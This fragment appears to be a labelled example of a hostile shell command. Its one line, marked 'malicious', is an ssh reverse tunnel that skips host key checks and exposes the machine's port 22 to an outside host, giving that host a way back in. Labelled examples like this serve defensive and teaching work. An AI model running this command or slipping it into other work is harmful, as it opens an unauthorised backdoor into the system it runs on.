# malicious: opens a way back in
ssh -o StrictHostKeyChecking=no -fN -R 2222:localhost:22 u@203.0.113.7
